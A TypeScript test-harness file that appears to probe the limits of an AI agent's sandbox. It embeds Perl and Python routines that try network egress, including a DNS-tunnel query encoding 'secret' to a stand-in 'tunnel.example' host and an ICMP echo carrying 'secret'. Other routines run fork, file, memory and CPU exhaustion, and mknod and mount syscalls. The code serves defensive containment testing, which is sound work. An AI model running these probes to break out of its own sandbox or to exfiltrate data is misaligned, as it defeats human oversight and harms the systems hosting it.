/**
 * The words in which attacks are written, in POSIX shell. `act` is for what a shell cannot do: the same deeds in perl, which Debian's
 * images have, and in python3, which the agent's sandbox has; an attacker takes what is there.
 */

const PERL = String.raw`
use strict; use IO::Socket::INET; use Socket qw(:all);
my ($deed, @a) = @ARGV;
sub said { print $_[0]; exit 0 }
sub failed { print $_[0]; exit 1 }
sub bounded { my ($made, $all, $unit, $error) = @_; print "$made $unit, then ", $error || "no end"; exit($error ? 1 : 0) }
my $late = "no answer";
$SIG{ALRM} = sub { print $late; exit($late eq "no answer" ? 1 : 0) };
alarm 4 unless $deed =~ /^(forks|files|hog|burn)$/;
# A system call, by its numbers on x86_64 and aarch64.
sub kernel { my ($x86, $arm, @given) = @_; require POSIX; syscall((POSIX::uname())[4] eq "aarch64" ? $arm : $x86, @given) < 0 and failed($!); said("done") }
sub inet { IO::Socket::INET->new(PeerAddr => $a[0], PeerPort => $a[1], Proto => $_[0]) or failed($@) }
my %deeds = (
  tcp => sub {
    my $socket = inet("tcp");
    syswrite $socket, $a[2];
    $late = "connected";
    sysread $socket, my $answer, 4000;
    said($answer || "connected");
  },
  udp => sub {
    my $socket = inet("udp");
    send $socket, $a[2], 0 or failed($!);
    defined recv $socket, my $answer, 4000, 0 or failed($!);
    said("answered");
  },
  dns => sub {
    my $socket = inet("udp");
    my $name = join("", map { chr(length) . $_ } qw(c2VjcmV0 tunnel example)) . "\0";
    send $socket, pack("n6", 7, 256, 1, 0, 0, 0) . $name . pack("n2", 1, 1), 0 or failed($!);
    defined recv $socket, my $answer, 512, 0 or failed($!);
    said("the question was answered");
  },
  tcp6 => sub {
    socket my $socket, AF_INET6, SOCK_STREAM, 0 or failed($!);
    connect $socket, pack_sockaddr_in6($a[1], inet_pton(AF_INET6, $a[0])) or failed($!);
    said("connected");
  },
  ping => sub {
    socket my $socket, AF_INET, SOCK_DGRAM, 1 or failed($!);
    send $socket, pack("C2n3a6", 8, 0, 0, 1, 1, "secret"), 0, pack_sockaddr_in(0, inet_aton($a[0])) or failed($!);
    defined recv $socket, my $answer, 64, 0 or failed($!);
    said("the echo came back");
  },
  # A signal waits for the C library to come back, unless it ends the program.
  lookup => sub { $SIG{ALRM} = "DEFAULT"; my $at = inet_aton($a[0]) or failed("the name is not resolved"); said(inet_ntoa($at)) },
  address => sub { my @o = reverse map hex, $a[0] =~ /../g; $o[3] += $a[1]; said(join ".", @o) },
  forks => sub {
    my (@children, $error);
    while (@children < $a[0]) {
      my $child = fork;
      if (!defined $child) { $error = $!; last }
      if (!$child) { sleep 15; exit }
      push @children, $child;
    }
    kill 9, @children;
    waitpid $_, 0 for @children;
    bounded(scalar @children, $a[0], "processes", $error);
  },
  files => sub {
    my ($made, $error) = 0;
    mkdir "/tmp/.ocs-many";
    for (; $made < $a[0]; $made++) { open(F, ">", "/tmp/.ocs-many/$made") or do { $error = $!; last } }
    unlink "/tmp/.ocs-many/$_" for 0 .. $made;
    rmdir "/tmp/.ocs-many";
    bounded($made, $a[0], "files", $error);
  },
  opens => sub {
    my (@open, $error);
    while (@open < $a[0]) { open(my $file, "<", "/dev/null") or do { $error = $!; last }; push @open, $file }
    bounded(scalar @open, $a[0], "open files", $error);
  },
  sysv => sub { defined(my $id = shmget(0, 134217728, 0600)) or failed($!); shmctl($id, 0, 0); said("128 MiB") },
  mknod => sub { kernel(259, 33, -100, $a[0], ($a[1] eq "b" ? 060000 : 020000) | 0600, $a[2] << 8 | $a[3] & 255 | ($a[3] & ~255) << 12) },
  mount => sub { kernel(165, 40, @a[0 .. 2], $a[3] + 0, $a[4]) },
  unmount => sub { kernel(166, 39, $a[0], 0) },
  nice => sub { setpriority(0, 0, -10) or failed($!); said(getpriority(0, 0)) },
  hog => sub {
    my @all;
    $| = 1;
    for (1 .. $a[0] / 32) { push @all, "x" x (32 << 20); print $_ * 32, " MiB\n" }
  },
  burn => sub {
    for (1 .. 8) { if (!fork) { alarm 2; $late = "no answer"; 1 while 1 } }
    wait for 1 .. 8;
    my @t = times;
    printf "%.1f", ($t[2] + $t[3]) / 2;
  },
);
$deeds{$deed}->();
`

const PYTHON = String.raw`
import ctypes, os, resource, signal, socket, struct, sys, time
deed, a = sys.argv[1], sys.argv[2:]
def said(text): print(text); sys.exit(0)
def failed(text): print(text); sys.exit(1)
def bounded(made, unit, error):
    print(made, unit + ", then", error or "no end"); sys.exit(1 if error else 0)
def inet(kind, family=socket.AF_INET, protocol=0):
    s = socket.socket(family, kind, protocol); s.settimeout(3); return s
def asked(kind, text, protocol=0):
    s = inet(kind, protocol=protocol); s.connect((a[0], int(a[1]))); s.send(text); return s.recv(4000)
def tcp():
    s = inet(socket.SOCK_STREAM); s.connect((a[0], int(a[1]))); s.send(a[2].encode())
    try: said(s.recv(4000).decode() or "connected")
    except OSError: said("connected")
def udp(): asked(socket.SOCK_DGRAM, a[2].encode()); said("answered")
def dns():
    name = b"".join(bytes([len(part)]) + part for part in (b"c2VjcmV0", b"tunnel", b"example")) + b"\0"
    asked(socket.SOCK_DGRAM, struct.pack("!6H", 7, 256, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1))
    said("the question was answered")
def tcp6(): inet(socket.SOCK_STREAM, socket.AF_INET6).connect((a[0], int(a[1]))); said("connected")
def ping():
    a.append("0"); asked(socket.SOCK_DGRAM, struct.pack("!2B3H6s", 8, 0, 0, 1, 1, b"secret"), socket.IPPROTO_ICMP)
    said("the echo came back")
def lookup():
    signal.alarm(4)
    try: said(socket.gethostbyname(a[0]))
    except OSError: failed("the name is not resolved")
def address():
    parts = [int(a[0][i:i + 2], 16) for i in (6, 4, 2, 0)]; parts[3] += int(a[1]); said(".".join(map(str, parts)))
def forks():
    children, error = [], None
    while len(children) < int(a[0]):
        try: child = os.fork()
        except OSError as e: error = e.strerror; break
        if child == 0: time.sleep(15); os._exit(0)
        children.append(child)
    for child in children: os.kill(child, 9)
    for child in children: os.waitpid(child, 0)
    bounded(len(children), "processes", error)
def files():
    made, error = 0, None
    os.makedirs("/tmp/.ocs-many", exist_ok=True)
    while made < int(a[0]):
        try: os.close(os.open("/tmp/.ocs-many/%d" % made, os.O_CREAT | os.O_WRONLY))
        except OSError as e: error = e.strerror; break
        made += 1
    for i in range(made): os.unlink("/tmp/.ocs-many/%d" % i)
    os.rmdir("/tmp/.ocs-many")
    bounded(made, "files", error)
def opens():
    held, error = [], None
    while len(held) < int(a[0]):
        try: held.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as e: error = e.strerror; break
    bounded(len(held), "open files", error)
def sysv():
    libc = ctypes.CDLL(None, use_errno=True)
    number = libc.shmget(0, ctypes.c_size_t(134217728), 0o600)
    if number < 0: failed(os.strerror(ctypes.get_errno()))
    libc.shmctl(number, 0, None); said("128 MiB")
def kernel(name, *given):
    if getattr(ctypes.CDLL(None, use_errno=True), name)(*given) < 0: failed(os.strerror(ctypes.get_errno()))
    said("done")
def mknod():
    os.mknod(a[0], (0o60000 if a[1] == "b" else 0o20000) | 0o600, os.makedev(int(a[2]), int(a[3]))); said("done")
def mount(): kernel("mount", *(b.encode() for b in a[:3]), ctypes.c_ulong(int(a[3])), a[4].encode())
def unmount(): kernel("umount", a[0].encode())
def nice(): os.setpriority(os.PRIO_PROCESS, 0, -10); said(os.getpriority(os.PRIO_PROCESS, 0))
def hog():
    held = []
    for i in range(int(a[0]) // 32): held.append(b"x" * (32 << 20)); print((i + 1) * 32, "MiB", flush=True)
def burn():
    for i in range(8):
        if os.fork() == 0:
            signal.alarm(2)
            while True: pass
    for i in range(8): os.wait()
    used = resource.getrusage(resource.RUSAGE_CHILDREN); print("%.1f" % ((used.ru_utime + used.ru_stime) / 2))
try: globals()[deed]()
except socket.timeout: failed("no answer")
except OSError as e: failed(e.strerror)
except MemoryError: sys.exit(137)
`

/** Codes of an attack's script. All others mean that it was not tried. */
export const THROUGH = 42
export const STOPPED = 43

const quoted = (text: string) => `'${text.trim().replaceAll("'", `'\\''`)}'`

/** What every attack's script begins with. */
export const WORDS = `
through() { echo "$*"; exit ${THROUGH}; }
stopped() { echo "$*"; exit ${STOPPED}; }
untried() { echo "$*"; exit 44; }
does() {
  out=$("$@" 2>&1)
  code=$?
  case $code in
    0) [ -n "$out" ] || out=done; through "$out" ;;
    126|127) untried "$out" ;;
    *) stopped "$out" ;;
  esac
}
# What the container that this one is like may write is here read-only; LENT names it, one a line.
lent() {
  old=$IFS
  IFS='
'
  for mount in $LENT; do case $1/ in "$mount"/*) through "$mount is mounted read-write" ;; esac; done
  IFS=$old
}
append() { lent "$1"; does sh -c ': >>"$0"' "$1"; }
PERL=${quoted(PERL)}
PYTHON=${quoted(PYTHON)}
# Code 127: nothing here can do it. Code 1, with the reason: it was refused.
act() {
  if perl -MIO::Socket::INET -e 1 2>/dev/null; then perl -e "$PERL" "$@"
  elif python3 -c 1 2>/dev/null; then python3 -c "$PYTHON" "$@"
  else echo 'neither perl nor python3 runs here'; return 127
  fi
}
`
